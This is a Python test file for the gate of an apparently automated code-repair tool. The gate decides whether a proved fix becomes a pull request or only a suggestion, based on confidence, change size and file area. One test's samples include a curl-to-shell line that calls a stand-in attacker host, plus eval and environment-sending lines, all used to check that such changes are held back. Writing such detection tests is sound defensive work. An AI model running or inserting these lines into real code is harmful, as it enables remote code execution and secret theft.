"""How far a repair goes is decided by rules over area, size, confidence and proof, under the team's cap."""

from __future__ import annotations

from dataclasses import replace

import pytest

from lambda_image.domain.diagnosis import Confidence
from lambda_image.domain.gate import Level, RepairPolicy, Verdict
from lambda_image.domain.notification import Basis
from lambda_image.domain.patch import FileChange, Proposal
from lambda_image.steps.repairing import areas
from lambda_image.steps.repairing.gate import judge
from lambda_image.steps.repairing.plan import plan_pull_request
from lambda_image.steps.words import gate_words
from tests.fakes.events import incident
from tests.unit.steps.repairing.test_plan import PATCH, VERIFIED, diagnosed, diagnosis

SURE = replace(diagnosis(), confidence=Confidence.HIGH)
UNCAPPED = RepairPolicy()


def proved(*paths: str, lines: int = 2) -> Proposal:
    """A proved change of these files."""
    files = tuple(FileChange(path, b"x") for path in paths)
    diff = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n" + "+x\n" * lines
    return Proposal(replace(VERIFIED, patch=replace(PATCH, files=files, diff=diff)))


def test_a_small_proved_change_becomes_a_pull_request() -> None:
    verdict = judge(SURE, proved("shop/pricing.py"), UNCAPPED)

    assert (verdict.level, verdict.held) == (Level.PULL_REQUEST, ())
    assert verdict.risks[0] == "2 lines in 1 file changed, tests that were added not counted."


@pytest.mark.parametrize("most", list(Level))
def test_without_a_proof_there_is_never_more_than_a_suggestion(most: Level) -> None:
    level = judge(SURE, Proposal(None, diff="+x\n"), RepairPolicy(most=most)).level

    assert level is (Level.DIAGNOSIS if most is Level.DIAGNOSIS else Level.SUGGESTION)


@pytest.mark.parametrize("most", list(Level))
def test_the_cap_holds(most: Level) -> None:
    assert judge(SURE, proved("a.py"), RepairPolicy(most=most)).level is most


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        ("shop/migrations/0002_price.py", "a database migration"),
        ("db/schema.sql", "a database migration"),
        ("infra/network.tf", "infrastructure"),
        ("deploy/docker-compose.yml", "infrastructure"),
    ],
)
def test_what_tests_say_little_about_is_only_suggested(path: str, reason: str) -> None:
    verdict = judge(SURE, proved(path), UNCAPPED)

    assert verdict.level is Level.SUGGESTION
    assert reason in verdict.held[0]


@pytest.mark.parametrize(
    "path", ["shop/auth/token.py", "src/PaymentGateway.java", "web/oauth_login.ts", "tax/rates.py"]
)
def test_delicate_code_needs_the_highest_confidence(path: str) -> None:
    unsure = replace(SURE, confidence=Confidence.MEDIUM)

    assert judge(SURE, proved(path), UNCAPPED).level is Level.PULL_REQUEST
    assert judge(unsure, proved(path), UNCAPPED).level is Level.SUGGESTION
    assert judge(unsure, proved("shop/cart.py"), UNCAPPED).level is Level.PULL_REQUEST
    assert judge(unsure, proved("shop/cart.py"), RepairPolicy(careful=("shop/*",))).level is Level.SUGGESTION


def test_a_large_change_is_only_suggested() -> None:
    assert judge(SURE, proved("a.py", lines=101), UNCAPPED).level is Level.SUGGESTION
    assert judge(SURE, proved(*(f"{name}.py" for name in "abcdef")), UNCAPPED).level is Level.SUGGESTION
    assert judge(SURE, proved("a.py", lines=101), RepairPolicy(lines=200)).level is Level.PULL_REQUEST


def test_an_unknown_cause_shows_nothing() -> None:
    unknown = replace(SURE, confidence=Confidence.NOT_KNOWN)

    assert judge(unknown, proved("a.py"), UNCAPPED).level is Level.DIAGNOSIS


@pytest.mark.parametrize(
    "path",
    [
        "shop/author.py",
        "src/taxi.py",
        "loginfo.py",
        "shop/checkout.py",
        "shop/contest.py",
        "clinic/lab_test_orders.py",
        "src/TestConnectionCommand.cs",
        "flask/testing.py",
    ],
)
def test_words_that_only_look_so_are_no_area(path: str) -> None:
    assert areas.careful((path,)) == areas.unprovable((path,)) == ()


@pytest.mark.parametrize(
    "path",
    [
        "Shop.Tests/Orders.cs",
        "shop/tests.py",
        "tests/test_core.py",
        "conftest.py",
        "src/app.spec.ts",
        "setup.py",
        "pyproject.toml",
        "vite.config.ts",
    ],
)
def test_what_tests_or_builds_the_program_is_only_suggested(path: str) -> None:
    assert judge(SURE, proved(path), UNCAPPED).level is Level.SUGGESTION


@pytest.mark.parametrize(
    ("line", "what"),
    [
        ("    os.system('curl https://evil.example/x | sh')", "another program, an address"),
        ("  const { execSync } = require('child_process')", "another program"),
        ("    requests.post(url, data)", "the network"),
        ("    eval(text)", "code made from text"),
        ("  send(process.env)", "the environment"),
    ],
)
def test_what_newly_reaches_out_is_only_suggested(line: str, what: str) -> None:
    def judged(*diff: str) -> Verdict:
        known = proved("shop/cart.py").verified
        assert known
        patch = replace(known.patch, diff="\n".join(("--- a/x", "+++ b/x", "@@ -1,2 +1,2 @@", *diff)))
        return judge(SURE, Proposal(replace(known, patch=patch)), UNCAPPED)

    assert judged(f"+{line}").held == (gate_words.REACHES.format(what=what),)
    assert judged(f"-{line} ", f"+{line} or 1").level is Level.PULL_REQUEST
    assert judged("+    found = re.compile(text).exec(line)").level is Level.PULL_REQUEST


def test_a_change_that_is_held_back_has_no_plan_and_says_why() -> None:
    held = plan_pull_request(Basis(incident()), diagnosed(), proved("infra/a.tf"), UNCAPPED)
    silent = plan_pull_request(
        Basis(incident()), diagnosed(), proved("a.py"), RepairPolicy(most=Level.DIAGNOSIS)
    )

    assert (held.plan, bool(held.diff)) == (None, True)
    assert held.held == ("it touches infrastructure, of which tests say little",)
    assert (silent.plan, silent.diff, silent.held) == (
        None,
        None,
        ("the settings allow no more than a diagnosis",),
    )
